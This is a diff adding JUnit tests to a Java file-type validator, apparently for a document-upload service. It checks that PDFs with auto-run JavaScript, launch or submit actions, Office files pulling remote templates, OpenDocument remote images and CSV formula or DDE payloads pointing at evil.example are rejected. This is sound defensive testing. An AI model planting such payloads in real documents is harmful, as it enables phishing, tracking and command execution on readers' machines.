@@ -10,6 +10,9 @@ import static org.redress.vault.Samples.picture;
 import static org.redress.vault.Samples.word;
 import static org.redress.vault.Samples.zip;
 
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.nio.ByteBuffer;
 import java.util.Arrays;
 import java.util.Base64;
@@ -18,6 +21,7 @@ import java.util.Map;
 import java.util.Optional;
 import java.util.Random;
 import java.util.stream.Stream;
+import java.util.zip.DeflaterOutputStream;
 import java.util.zip.ZipInputStream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -226,5 +230,111 @@ class FileTypesTest {
                 .matcher(written.replace("\\n", "\n").replace("\\r", "\r"))
                 .replaceAll(sign -> java.util.regex.Matcher.quoteReplacement(
                         String.valueOf((char) Integer.parseInt(sign.group(1), 16))));
+    }
+
+    /** A document that asks a server for something as it is opened tells where its reader sits. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
+                "/OpenAction<</S/URI/URI(http://evil.example/)>>",
+                "<< /S /Launch /F (evil.exe) >>",
+                "<< /S /J#61vaScript >>",
+                "/AA << /O << /S /URI /URI (http://evil.example/) >> >>",
+                "/AA 12 0 R",
+                "/Names << /EmbeddedFiles 4 0 R >>",
+                "<< /S /SubmitForm /F (http://evil.example/) >>",
+                "<< /Type /Filespec /FS /URL /F (http://evil.example/) >>",
+                "trailer << /Encrypt 5 0 R >>",
+                "<< /Type /ObjStm /Length 0 >> and no stream",
+                "<< /Type /ObjStm /Filter /LZWDecode >> stream\nabc\nendstream"
+            })
+    void aPdfThatActsHasNoType(String acts) {
+        assertThat(FileTypes.of(pdf(acts))).isEmpty();
+    }
+
+    @Test
+    void whatAPdfPacksIsSearchedToo() {
+        assertThat(FileTypes.of(pdfWithPacked("<< /S /JavaScript /JS (x) >>"))).isEmpty();
+        assertThat(FileTypes.of(pdfWithPacked("<< /S /GoTo /D [3 0 R /Fit] >>"))).contains("application/pdf");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/OpenAction [3 0 R /Fit]",
+                "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
+                "/OpenAction 5 0 R",
+                "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>]"
+            })
+    void aPdfWithALinkOrAFirstPageIsTaken(String harmless) {
+        assertThat(FileTypes.of(pdf(harmless))).contains("application/pdf");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '`',
+            textBlock =
+                    """
+                    attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External
+                    image" Target="file://evil.example/x.png" TargetMode = 'External
+                    image" Target="file://evil.example/x.png" TargetMode="&#69;xternal
+                    aFChunk" Target="chunk.txt
+                    """)
+    void anOfficeDocumentThatFetchesHasNoType(String relation) {
+        assertThat(FileTypes.of(word(Map.of("word/_rels/document.xml.rels", relationship(relation)))))
+                .isEmpty();
+    }
+
+    @Test
+    void anOfficeDocumentWithALinkIsTaken() {
+        assertThat(FileTypes.of(word(Map.of(
+                        "word/_rels/document.xml.rels",
+                        relationship("hyperlink\" Target=\"https://example.org\" TargetMode=\"External")))))
+                .contains(Packed.DOCX);
+    }
+
+    @Test
+    void anOpenDocumentThatFetchesHasNoType() {
+        assertThat(FileTypes.of(open("<draw:image xlink:href=\"http://evil.example/x.png\"/>")))
+                .isEmpty();
+        assertThat(FileTypes.of(open("<text:section-source xlink:href='//evil.example/x'/>")))
+                .isEmpty();
+        assertThat(FileTypes.of(open("<text:a xlink:href=\"https://example.org\">x</text:a>"
+                        + "<draw:image xlink:href=\"Pictures/1.png\"/>")))
+                .contains(Packed.ODT);
+    }
+
+    @Test
+    void aTableWithFormulasIsSavedAsText() {
+        assertThat(FileAnswers.savedAs("pay.csv", "text/plain", bytes("day;pay\n1;=HYPERLINK(\"http://evil.example\")")))
+                .isEqualTo("pay.csv.txt");
+        assertThat(FileAnswers.savedAs("pay.csv", "text/plain", bytes("\"=cmd|' /C x'!A0\",1")))
+                .isEqualTo("pay.csv.txt");
+        assertThat(FileAnswers.savedAs("pay.csv", "text/plain", bytes("day;pay\n1;-5,20")))
+                .isEqualTo("pay.csv");
+    }
+
+    private static String relationship(String relation) {
+        return "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+                + "relationships/" + relation + (relation.contains("'") ? "'" : "\"") + "/></Relationships>";
+    }
+
+    private static byte[] open(String content) {
+        return zip(Map.of(
+                "mimetype", Packed.ODT, "content.xml", "<office:document-content>" + content + "</office:document-content>"));
+    }
+
+    private static byte[] pdfWithPacked(String objects) {
+        ByteArrayOutputStream packed = new ByteArrayOutputStream();
+        try (DeflaterOutputStream deflater = new DeflaterOutputStream(packed)) {
+            deflater.write(bytes(objects));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return one(
+                one(bytes("%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"), packed.toByteArray()),
+                bytes("\nendstream\nendobj\n%%EOF\n"));
     }
 }
